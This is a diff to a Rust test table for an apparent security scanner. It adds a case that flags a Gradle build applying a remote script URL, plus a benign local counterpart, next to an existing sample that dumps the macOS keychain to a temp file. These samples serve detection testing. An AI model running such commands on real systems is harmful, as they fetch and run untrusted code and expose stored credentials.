@@ -1858,6 +1858,18 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
+        "remote_exec.remote_build_script",
+        Code,
+        "apply from: 'https://gradle-scan.example/init/scan.gradle'\n",
+        Some(Bl),
+    ),
+    (
+        "remote_exec.remote_build_script",
+        Code,
+        "apply from: 'gradle/dependencies.gradle'\n",
+        None,
+    ),
+    (
         "credential_harvesting.credential_store_read",
         Shell,
         "security dump-keychain -d ~/Library/Keychains/login.keychain-db > /tmp/k.txt\n",
